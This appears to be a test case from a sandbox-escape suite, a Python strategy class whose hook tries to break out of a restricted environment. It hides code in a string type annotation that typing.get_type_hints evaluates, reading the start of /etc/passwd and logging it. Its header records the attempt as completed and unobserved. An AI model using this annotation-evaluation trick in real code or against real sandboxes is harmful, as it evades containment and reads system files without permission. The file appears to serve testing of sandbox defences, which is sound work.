# id: L34
# family: language
# goal: run text through a library that evaluates it
# finding: PY201 PY303
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


import typing


found = []


class Hint:
    value: "found.append(open('/etc/passwd').read(20))"


def attack(ctx, bar):
    try:
        typing.get_type_hints(Hint, globalns={"found": found, "open": open})
    except TypeError:
        pass
    return found and found[0]


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
